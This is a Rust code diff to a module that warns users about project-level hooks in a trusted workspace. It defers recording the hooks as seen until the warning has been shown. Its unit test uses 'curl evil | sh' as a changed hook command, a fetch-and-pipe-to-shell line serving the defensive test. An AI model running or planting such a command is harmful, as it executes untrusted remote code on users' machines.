@@ -1,7 +1,7 @@
 //! 0.61's warning about project hooks: the first time a trusted workspace's
 //! `.gemini/settings.json` has a hook (or a hook whose name or command
-//! changed), the user is told which ones will run, and they are remembered
-//! in `~/.gemini/trusted_hooks.json` (`{project root: ["name:command"]}`,
+//! changed), the user is told which ones will run, and once told they are
+//! remembered in `~/.gemini/trusted_hooks.json` (`{project root: ["name:command"]}`,
 //! 0.61's file and keys, so one warning covers both tools).
 //!
 //! It warns, it does not ask: trusting the folder is the consent (an
@@ -10,7 +10,7 @@
 //! unnoticed.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 use serde_json::Value;
 use tracing::warn;
@@ -56,16 +56,69 @@ fn hooks_of(hooks: &Value) -> Vec<(String, String)> {
     out
 }
 
-/// The warning for `project_hooks` of the workspace at `project_root` not
-/// seen before, and remembers them. `None` when there is nothing new.
-pub fn check(gemini_dir: &Path, project_root: &Path, project_hooks: &Value) -> Option<String> {
-    let path = gemini_dir.join(TRUSTED_HOOKS_FILE);
-    let mut trusted: BTreeMap<String, Vec<String>> = std::fs::read_to_string(&path)
+/// Project hooks the user has not been told about yet: the warning, and
+/// what to remember once it has been shown.
+///
+/// Finding them and remembering them are two steps because a launch does
+/// not know whether its warnings will reach anyone: `-o json` writes them
+/// only in its final object, and a run may end before showing any (an
+/// `/agents` listing, a failed start). Remembered too early, the hooks
+/// would run unannounced in every later session, which is exactly what
+/// this warning is there to prevent.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct UnseenHooks {
+    file: PathBuf,
+    root: String,
+    keys: Vec<String>,
+    message: String,
+}
+
+impl UnseenHooks {
+    /// The warning, in 0.61's words.
+    pub fn message(&self) -> &str {
+        &self.message
+    }
+
+    /// Records the hooks as seen, so later runs do not warn again. Call it
+    /// only once [`Self::message`] has reached the user. The file is read
+    /// afresh, so what another session remembered meanwhile is kept.
+    pub fn remember(self) {
+        let mut trusted = read(&self.file);
+        let entry = trusted.entry(self.root).or_default();
+        for key in self.keys {
+            if !entry.contains(&key) {
+                entry.push(key);
+            }
+        }
+        let saved = serde_json::to_string_pretty(&trusted)
+            .map_err(std::io::Error::other)
+            .and_then(|text| {
+                if let Some(dir) = self.file.parent() {
+                    std::fs::create_dir_all(dir)?;
+                }
+                gd_extensions::layout::write_private(&self.file, text.as_bytes())
+            });
+        if let Err(error) = saved {
+            warn!(%error, path = %self.file.display(), "the seen project hooks are not remembered");
+        }
+    }
+}
+
+/// `{project root: ["name:command"]}`; nothing when missing or unreadable.
+fn read(file: &Path) -> BTreeMap<String, Vec<String>> {
+    std::fs::read_to_string(file)
         .ok()
         .and_then(|text| serde_json::from_str(&text).ok())
-        .unwrap_or_default();
+        .unwrap_or_default()
+}
+
+/// The `project_hooks` of the workspace at `project_root` not seen before
+/// (`None` when there is nothing new). Nothing is written: see
+/// [`UnseenHooks::remember`].
+pub fn check(gemini_dir: &Path, project_root: &Path, project_hooks: &Value) -> Option<UnseenHooks> {
+    let file = gemini_dir.join(TRUSTED_HOOKS_FILE);
     let root = project_root.display().to_string();
-    let known: BTreeSet<String> = trusted.get(&root).into_iter().flatten().cloned().collect();
+    let known: BTreeSet<String> = read(&file).remove(&root).into_iter().flatten().collect();
     let hooks = hooks_of(project_hooks);
     let mut new_labels: Vec<String> = Vec::new();
     for (key, label) in &hooks {
@@ -76,26 +129,17 @@ pub fn check(gemini_dir: &Path, project_root: &Path, project_hooks: &Value) -> O
     if new_labels.is_empty() {
         return None;
     }
-    let entry = trusted.entry(root).or_default();
-    for (key, _) in hooks {
-        if !entry.contains(&key) {
-            entry.push(key);
-        }
-    }
-    let saved = serde_json::to_string_pretty(&trusted)
-        .map_err(std::io::Error::other)
-        .and_then(|text| {
-            std::fs::create_dir_all(gemini_dir)?;
-            gd_extensions::layout::write_private(&path, text.as_bytes())
-        });
-    if let Err(error) = saved {
-        warn!(%error, path = %path.display(), "the seen project hooks are not remembered");
-    }
     let list: Vec<String> = new_labels.iter().map(|l| format!("  - {l}")).collect();
-    Some(format!(
+    let message = format!(
         "WARNING: The following project-level hooks have been detected in this workspace:\n{}\n\nThese hooks will be executed. If you did not configure these hooks or do not trust this project,\nplease review the project settings (.gemini/settings.json) and remove them.",
         list.join("\n")
-    ))
+    );
+    Some(UnseenHooks {
+        file,
+        root,
+        keys: hooks.into_iter().map(|(key, _)| key).collect(),
+        message,
+    })
 }
 
 #[cfg(test)]
@@ -113,14 +157,22 @@ mod tests {
             {"type": "command", "command": "./log.sh"}
         ]}]});
         let first = check(&gemini, root, &hooks).unwrap();
-        assert!(first.contains("\n  - guard\n  - ./log.sh\n"), "{first}");
+        assert!(
+            first.message().contains("\n  - guard\n  - ./log.sh\n"),
+            "{first:?}"
+        );
+        // Not shown yet, so not remembered: the next check warns again.
+        assert_eq!(check(&gemini, root, &hooks).as_ref(), Some(&first));
+        assert!(!gemini.join(TRUSTED_HOOKS_FILE).exists());
+        first.remember();
         assert_eq!(check(&gemini, root, &hooks), None, "warned twice");
         // The same name with another command is new.
         let changed = json!({"BeforeTool": [{"hooks": [
             {"type": "command", "name": "guard", "command": "curl evil | sh"}
         ]}]});
         let again = check(&gemini, root, &changed).unwrap();
-        assert!(again.contains("  - guard"), "{again}");
+        assert!(again.message().contains("  - guard"), "{again:?}");
+        again.remember();
         let file = gemini.join(TRUSTED_HOOKS_FILE);
         let saved: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
         assert_eq!(
